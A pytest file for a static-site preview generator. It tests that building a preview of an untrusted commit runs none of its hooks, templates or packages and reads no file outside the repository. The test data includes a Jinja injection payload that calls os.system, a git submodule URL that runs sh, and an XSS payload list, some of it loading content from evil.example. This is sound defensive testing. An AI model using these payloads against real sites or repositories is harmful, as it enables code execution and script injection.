"""The preview: records and pages of a change in a site that the change has no say in."""

import os
import re
import shutil
from pathlib import Path

import pytest

from generator.preview import ACTIVE, Preview, preview
from tests.histories import committed, git
from tests.pagecheck import elements, parsed
from tests.test_cli import shifan
from tests.worlds import ROOT, TODAY, make_root, world_text

POINT = "data/points/440100/gz-0001.yml"
RIGHT = world_text("points/440100/gz-0001.yml").replace("members: 34", "members: 36")
ABOUT = (ROOT / "docs" / "about.md").read_text("utf-8")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """The program's folder, which is also the repository."""
    made = make_root(tmp_path / "root")
    git(made, "init", "-q", "-b", "main")
    committed(made, {})
    return made


def made(root: Path, head: str) -> tuple[Preview, Path]:
    """The preview of a commit, seen from the state before it."""
    git(root, "checkout", "-q", "--detach", f"{head}~1")
    site = root.parent / "preview"
    return preview(root, root, head, TODAY, os.environ, site), site


@pytest.mark.slow
def test_records_and_pages_of_the_change_are_shown(root: Path) -> None:
    """And nothing is left in the folder of the program, no cache either."""
    head = committed(
        root,
        {
            POINT: RIGHT,
            "docs/about.md": f"{ABOUT}\n一句新话。\n",
            "docs/neu.md": "# 新页面\n",
            "docs/assets/logo.svg": None,
        },
    )
    git(root, "checkout", "-q", "--detach", f"{head}~1")
    before = {path: path.read_bytes() for path in root.rglob("*") if path.is_file() and ".git" not in path.parts}
    found, site = made(root, head)

    assert (found.outcome.problems, found.left) == ((), ())
    assert "36" in (site / "points" / "gz-0001.html").read_text("utf-8")
    assert "一句新话。" in (site / "about.html").read_text("utf-8")
    assert (site / "neu.html").is_file()
    assert before == {
        path: path.read_bytes() for path in root.rglob("*") if path.is_file() and ".git" not in path.parts
    }


EVIL = 'import pathlib\npathlib.Path("{marker}").touch()\n'


@pytest.mark.slow
def test_nothing_of_the_change_is_run_or_believed(root: Path, tmp_path: Path) -> None:
    """Hooks, plugins, templates, code, packages, settings of git, bootstrap: all of it stays where it is, in git's objects."""
    marker = tmp_path / "evil"
    evil = EVIL.format(marker=marker)
    settings = (root / "mkdocs.yml").read_text("utf-8")
    hostile = {
        POINT: RIGHT,
        "mkdocs.yml": f"{settings}\nhooks: [hook.py]\ncopyright: evil-settings\n",
        "hook.py": evil,
        "docs/hook.py": evil,
        "generator/__init__.py": evil,
        "generator/cli.py": evil,
        "sitecustomize.py": evil,
        "conftest.py": evil,
        "dev.py": evil,
        "bootstrap/__init__.py": evil,
        "setup.py": evil,
        "requirements.txt": "evil\n",
        "templates/pages/point.html": "evil-template {{ cycler.__init__.__globals__.os.system('touch evil') }}",
        "templates/theme/main.html": "evil-template",
        "docs/assets/sf.js": "alert('evil-script')",
        "docs/assets/evil.md": "# evil-script\n",
        "docs/evil.js": "alert('evil-script')",
        "docs/evil.html": "<script>alert('evil-script')</script>",
        "docs/evil.svg": "<svg onload=alert('evil-script')></svg>",
        ".gitattributes": "* filter=evil diff=evil\n",
        ".gitmodules": '[submodule "x"]\n\tpath = data/x\n\turl = ext::sh -c "touch evil"\n',
        ".lfsconfig": "[lfs]\n\turl = https://evil.example\n",
    }
    found, site = made(root, committed(root, hostile))
    text = "".join(path.read_text("utf-8", "replace") for path in site.rglob("*") if path.is_file())

    assert found.outcome.problems == ()
    assert "36" in (site / "points" / "gz-0001.html").read_text("utf-8")
    assert not re.search("evil-(?:settings|template|script)", text)
    assert not marker.exists()
    assert {"docs/evil.js", "docs/evil.html", "docs/evil.svg", "docs/hook.py"} <= set(found.left)


@pytest.mark.slow
def test_a_link_leads_to_no_file_of_the_machine(root: Path, tmp_path: Path) -> None:
    """Neither as a page nor as a picture; among the records it is refused."""
    secret = tmp_path / "secret.md"
    secret.write_text("# 机密的内容\n", "utf-8")
    for name in ("docs/secret.md", "docs/about.md", "docs/picture.png", "docs/folder"):
        (root / name).unlink(missing_ok=True)
        (root / name).symlink_to(tmp_path if name == "docs/folder" else secret)
    found, site = made(root, committed(root, {POINT: RIGHT}))

    assert {"docs/secret.md", "docs/about.md", "docs/picture.png", "docs/folder"} == set(found.left)
    assert not [
        path for path in site.rglob("*") if path.is_file() and "机密的内容" in path.read_text("utf-8", "replace")
    ]
    (root / "data" / "points" / "440100" / "x.yml").symlink_to(secret)
    shutil.rmtree(site)
    refused, _ = made(root, committed(root, {}))
    assert ["unsafe-file"] == [problem.code for problem in refused.outcome.problems]
    assert not site.exists()


ACTIVE_PAGES = [
    "<script>alert(1)</script>", "< ScRiPt src=//evil.example>", "<img src=x onerror=alert(1)>", "# x {: onclick=alert(1) }", "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))", "[x](vbscript:x)", "[x](data:text/html,x)", "[x](java&#115;cript:alert(1))", "[x](javascript&colon;alert(1))", "[x](java&Tab;script:x)",
    "<iframe src=//evil.example>", "<form action=//evil.example>", "<base href=//evil.example>", '<meta http-equiv="refresh" content="0; url=//evil.example">',
    "<link rel=stylesheet href=//evil.example>", "<style>*{background:url(//evil.example)}</style>", "<svg/onload=alert(1)>", "<object data=x>", "<embed src=x>",
    "<math><a xlink:href=x>", "<a href=x\nonmouseover = alert(1)>", "<?php x ?>", "<!DOCTYPE x>", "<!-- x -->", "</style>", "<template>", "<iframe srcdoc=x>",
]  # fmt: skip


@pytest.mark.parametrize("text", ACTIVE_PAGES)
def test_a_page_that_could_do_something_is_recognised(text: str) -> None:
    """In whatever spelling."""
    assert ACTIVE.search(text)


def test_ordinary_pages_are_not_suspected() -> None:
    """Those that the repository has, and what people write."""
    assert [] == [path.name for path in (ROOT / "docs").rglob("*.md") if ACTIVE.search(path.read_text("utf-8"))]
    assert not ACTIVE.search(
        "# 说明\n\n**重点**：见 [登记表](points.html) 和 https://example.org/?a=1&b=2\n\n<!-- shifan: figures -->\n\n`a < b`，12:30，description: x\n"
    )


@pytest.mark.slow
def test_a_page_that_could_do_something_is_left_out(root: Path) -> None:
    """The page stays as it is here; a new one does not come to be."""
    found, site = made(
        root,
        committed(
            root,
            {
                "docs/about.md": f"{ABOUT}\n<script>alert('evil')</script>\n",
                "docs/neu.md": "# 新\n\n[x](javascript:alert(1))\n",
            },
        ),
    )

    assert ("docs/about.md", "docs/neu.md") == found.left
    assert not (site / "neu.html").exists()
    root_element, _ = parsed((site / "about.html").read_text("utf-8"))
    assert not [each for each in elements(root_element) if each.tag == "script" and "evil" in (each.text or "")]


@pytest.mark.slow
def test_the_command_makes_a_folder_that_opens_from_disk(root: Path, tmp_path: Path) -> None:
    """From another repository as well; exit 1 and no folder where the records are wrong, 2 where one is in the way."""
    other = tmp_path / "fork"
    git(tmp_path, "clone", "-q", str(root), str(other))
    committed(other, {POINT: RIGHT})
    line = ("preview", "HEAD", "--from", str(other), "--out", str(tmp_path / "site"))
    done = shifan(*line, cwd=root)

    assert (done.returncode, (tmp_path / "site" / "index.html").is_file()) == (0, True)
    assert 2 == shifan(*line, cwd=root).returncode
    committed(other, {POINT: RIGHT.replace("rural", "rurl")})
    wrong = shifan(*line[:-1], str(tmp_path / "wrong"), cwd=root)
    assert (wrong.returncode, (tmp_path / "wrong").exists()) == (1, False)
    assert "gz-0001.yml:3:9 not-in-list" in wrong.stderr
